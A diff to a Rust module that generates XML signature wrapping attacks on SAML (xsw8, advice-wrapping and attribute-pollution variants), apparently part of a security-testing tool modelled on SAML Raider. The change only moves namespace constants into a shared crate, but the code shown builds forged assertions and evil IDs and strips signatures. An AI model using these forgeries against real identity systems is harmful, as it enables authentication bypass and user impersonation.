@@ -1,10 +1,11 @@
 //! XML signature wrapping: the signed element stays intact somewhere, a forged one is where
 //! the SP reads. Shapes follow SAML Raider's XSWHelpers (USENIX'12) and the published PoCs.
 
-use crate::bytes::{attr_value, before_end_tag, child, insert, splice, Doc, PROTOCOL_NS};
+use crate::bytes::{attr_value, before_end_tag, child, insert, splice, Doc};
 use crate::family::{evil_id, forged, Parts};
 use crate::forge::{Forge, Forged, Skip};
 use crate::identity;
+use saml_protocol::{ASSERTION_NS, DSIG_NS, PROTOCOL_NS};
 
 fn parse<'a>(f: &Forge<'a>) -> Result<Doc<'a>, Skip> {
     Doc::parse(f.seed)
@@ -125,7 +126,7 @@ pub fn xsw8(f: &Forge) -> Result<Forged, Skip> {
     let (mut edits, swap) = forge_in_place(&p);
     let object = format!(
         "<ds:Object xmlns:ds=\"{}\">{}</ds:Object>",
-        crate::bytes::DSIG_NS,
+        DSIG_NS,
         p.assertion_unsigned()
     );
     edits.push(insert(before_end_tag(doc.src, sig), object));
@@ -157,11 +158,11 @@ pub fn advice(f: &Forge) -> Result<Forged, Skip> {
     let (mut edits, swap) = forge_in_place(&p);
     edits.push((sig.range(), String::new()));
     edits.push(id_edit(p.assertion, &evil_id(p.assertion_id()))?);
-    let at = child(p.assertion, crate::bytes::ASSERTION_NS, "Conditions")
+    let at = child(p.assertion, ASSERTION_NS, "Conditions")
         .map_or_else(|| before_end_tag(doc.src, p.assertion), |c| c.range().end);
     let advice = format!(
         "<saml:Advice xmlns:saml=\"{}\">{}</saml:Advice>",
-        crate::bytes::ASSERTION_NS,
+        ASSERTION_NS,
         doc.outer(p.assertion)
     );
     edits.push(insert(at, advice));
@@ -244,10 +245,7 @@ pub fn attribute_pollution(f: &Forge) -> Result<Forged, Skip> {
     let id = p.assertion_id();
     let polluted = evil.replacen(
         &format!("ID=\"{id}\""),
-        &format!(
-            "saml:ID=\"{id}\" xmlns:saml=\"{}\"",
-            crate::bytes::ASSERTION_NS
-        ),
+        &format!("saml:ID=\"{id}\" xmlns:saml=\"{}\"", ASSERTION_NS),
         1,
     );
     if polluted == evil {
